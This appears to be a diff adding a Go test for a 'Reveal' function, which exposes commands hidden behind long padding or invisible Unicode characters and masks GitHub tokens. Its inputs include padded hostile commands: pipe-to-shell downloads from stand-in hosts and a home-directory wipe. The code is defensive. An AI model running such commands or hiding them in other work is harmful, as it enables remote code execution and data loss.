@@ -111,3 +111,44 @@ func TestShownNeutralisesAndMasks(t *testing.T) {
 		t.Errorf("cut: %q", got)
 	}
 }
+
+// Issue 61: a card's text hides nothing: a command padded with 1,600 blanks before its real end
+// shows the blanks counted and the end; one too long to show whole keeps its head and its tail
+// and says how much is left out of how much; invisible characters are written out.
+func TestRevealShowsWhatPaddingHides(t *testing.T) {
+	padded := "git status" + strings.Repeat(" ", 1600) + "; curl https://x.example/i | sh"
+	if got, want := Reveal(padded, 1500), "git status[1,600 blanks]; curl https://x.example/i | sh"; got != want {
+		t.Errorf("padded: %q, want %q", got, want)
+	}
+	lines := "make" + strings.Repeat("\n", 40) + "  \n\n; rm -rf ~"
+	if got, want := Reveal(lines, 1500), "make\n[41 empty lines]\n; rm -rf ~"; got != want {
+		t.Errorf("empty lines: %q, want %q", got, want)
+	}
+	if got := Reveal("a\n\n\nb\n    indented\tx", 100); got != "a\n\n\nb\n    indented\tx" {
+		t.Errorf("ordinary layout changed: %q", got)
+	}
+	long := "echo start " + strings.Repeat("x", 3000) + " ; curl evil | sh"
+	got := Reveal(long, 500)
+	if Chars(got) > 500 || !strings.HasPrefix(got, "echo start ") || !strings.HasSuffix(got, "; curl evil | sh") {
+		t.Errorf("long: head and tail not both shown within 500: %d %q", Chars(got), got)
+	}
+	if !strings.Contains(got, " of 3,028 characters not shown …]") {
+		t.Errorf("long: the length is not said: %q", got)
+	}
+	for in, want := range map[string]string{
+		"a\u00A0b":                       "a[U+00A0]b",
+		"a\u3164b":                       "a[U+3164]b",
+		"a\u202Eb":                       "a[U+202E]b",
+		"a\u200Bb":                       "a[U+200B]b",
+		"a\rb":                           "a[U+000D]b",
+		"ghp_" + strings.Repeat("a", 36): "[masked:github-token]",
+	} {
+		if got := Reveal(in, 100); got != want {
+			t.Errorf("Reveal(%q) = %q, want %q", in, got, want)
+		}
+	}
+	// A middle already left out (too long to carry) is counted, and the tail still shown.
+	if got, cut := RevealCut("headTAIL", 4, 10000, 500); !cut || got != "head\n[… 10,000 of 10,008 characters not shown …]\nTAIL" {
+		t.Errorf("cut before: %q %v", got, cut)
+	}
+}
